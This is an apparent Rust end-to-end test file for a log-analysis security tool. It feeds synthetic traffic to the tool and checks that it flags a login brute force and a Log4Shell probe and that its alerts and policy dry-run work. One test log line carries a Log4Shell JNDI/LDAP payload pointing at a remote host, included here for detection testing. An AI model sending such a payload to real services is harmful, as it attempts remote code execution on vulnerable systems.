//! End-to-end tests of detection through the real binary: `rampart analyze --alerts` on a
//! log holding a brute force and Log4Shell probes among ordinary users, then `rampart alerts`
//! reading them back from the SQLite database.

use std::process::{Command, Output};

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rampart"))
        .args(args)
        .output()
        .expect("rampart runs")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// OpenTelemetry JSON lines: 40 users browsing, one address failing 40 logins, one sending a
/// Log4Shell payload in a header.
fn traffic() -> String {
    let mut lines = Vec::new();
    let line = |t: u32, ip: &str, method: &str, path: &str, status: u16, extra: &str| {
        format!(
            r#"{{"timestamp":"2024-05-01T10:{:02}:{:02}Z","client.address":"{ip}","http.request.method":"{method}","url.path":"{path}","http.response.status_code":{status},"user_agent.original":"Mozilla/5.0 Chrome/142.0.0.0"{extra}}}"#,
            t / 60,
            t % 60
        )
    };
    for u in 0..40u32 {
        for k in 0..5u32 {
            lines.push(line(
                u + k * 7,
                &format!("198.51.100.{u}"),
                "GET",
                &format!("/api/v1/products/{}", k + 1),
                200,
                "",
            ));
        }
    }
    for i in 0..40u32 {
        lines.push(line(
            i,
            "203.0.113.50",
            "POST",
            "/api/v1/auth/login",
            401,
            r#","http.request.body":"{\"username\":\"alice\",\"password\":\"guess\"}""#,
        ));
    }
    lines.push(line(
        100,
        "203.0.113.66",
        "GET",
        "/api/v1/products",
        200,
        r#","http.request.header.x-api-version":"${jndi:ldap://203.0.113.5:1389/a}""#,
    ));
    lines.sort();
    lines.join("\n") + "\n"
}

#[test]
fn analyze_writes_alerts_and_the_store_lists_them() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("traffic.jsonl");
    std::fs::write(&input, traffic()).unwrap();
    let db = dir.path().join("r.db");
    let alerts = dir.path().join("alerts.jsonl");
    let o = run(&[
        "analyze",
        input.to_str().unwrap(),
        "--db",
        db.to_str().unwrap(),
        "--alerts",
        alerts.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let out = text(&o.stdout);
    assert!(out.contains("Detection:"), "{out}");
    assert!(out.contains("credential_stuffing"), "{out}");

    let written: Vec<serde_json::Value> = std::fs::read_to_string(&alerts)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON alert per line"))
        .collect();
    let brute = written
        .iter()
        .find(|a| a["detector"] == "credential_stuffing" && a["entity"]["kind"] == "ip")
        .expect("brute force alert");
    assert_eq!(brute["entity"]["value"], "203.0.113.50");
    assert_eq!(brute["owasp"], "API2:2023");
    assert!(brute["evidence"].as_str().unwrap().contains("brute force"));
    assert!(brute["actor"].as_str().unwrap().starts_with("actor-"));
    let probe = written
        .iter()
        .find(|a| a["detector"] == "log4shell")
        .expect("log4shell alert");
    assert_eq!(probe["entity"]["value"], "203.0.113.66");
    assert!(
        !written.iter().any(|a| a["entity"]["value"]
            .as_str()
            .unwrap_or("")
            .starts_with("198.51.100.")),
        "no browsing user is flagged"
    );

    let o = run(&["alerts", "--db", db.to_str().unwrap(), "--json"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout).lines().count(), written.len());
    let o = run(&[
        "alerts",
        "--db",
        db.to_str().unwrap(),
        "--min-severity",
        "high",
        "--detector",
        "log4shell",
    ]);
    assert!(o.status.success());
    let table = text(&o.stdout);
    assert!(
        table.contains("203.0.113.66") && !table.contains("203.0.113.50"),
        "{table}"
    );
    let o = run(&["alerts", "--db", db.to_str().unwrap(), "--actors"]);
    assert!(text(&o.stdout).contains("risk"), "{}", text(&o.stdout));
    let o = run(&[
        "alerts",
        "--db",
        db.to_str().unwrap(),
        "--min-severity",
        "severe",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o.stderr).contains("use info, low, medium, high or critical"));
}

#[test]
fn no_detect_runs_discovery_alone() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("traffic.jsonl");
    std::fs::write(&input, traffic()).unwrap();
    let alerts = dir.path().join("alerts.jsonl");
    let o = run(&[
        "analyze",
        input.to_str().unwrap(),
        "--no-store",
        "--no-detect",
        "--alerts",
        alerts.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let out = text(&o.stdout);
    assert!(out.contains("Detection: off"), "{out}");
    assert!(
        out.contains("/api/v1/auth/login"),
        "the inventory is still learned: {out}"
    );
    assert_eq!(std::fs::read_to_string(&alerts).unwrap(), "", "no alerts");
}

#[test]
fn a_policy_dry_run_counts_flagged_and_benign_traffic_apart() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("traffic.jsonl");
    std::fs::write(&input, traffic()).unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(
        &policy,
        "rules:\n  - name: stop-brute-force\n    when: { detector: credential_stuffing }\n    action: block\n    scope: ip\n    ttl: 1h\n    mode: enforce\n  - name: watch-products\n    when: { endpoint: \"GET /api/v1/products/*\" }\n    action: block\n",
    )
    .unwrap();
    let o = run(&[
        "analyze",
        input.to_str().unwrap(),
        "--no-store",
        "--top",
        "0",
        "--policy",
        policy.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let out = text(&o.stdout);
    let report = out
        .split("Policy dry run")
        .nth(1)
        .expect("a dry-run report");
    let row = |name: &str| {
        report
            .lines()
            .find(|l| l.trim_start().starts_with(name))
            .unwrap_or_else(|| panic!("{name} missing: {report}"))
            .split_whitespace()
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    let brute = row("stop-brute-force");
    assert_eq!(brute[1..3], ["block".to_owned(), "enforce".to_owned()]);
    assert!(
        brute[3].parse::<u64>().unwrap() > 0,
        "flagged requests blocked: {report}"
    );
    assert_eq!(brute[4], "0", "no benign request blocked: {report}");
    let watch = row("watch-products");
    assert_eq!(watch[2], "monitor", "new rules only watch: {report}");
    assert_eq!(
        watch[4], "200",
        "every browsing request would have been hit: {report}"
    );

    let bad = dir.path().join("bad.yaml");
    std::fs::write(&bad, "rules:\n  - name: x\n    action: blok\n").unwrap();
    let o = run(&[
        "analyze",
        input.to_str().unwrap(),
        "--no-store",
        "--policy",
        bad.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("blok"), "{}", text(&o.stderr));
}
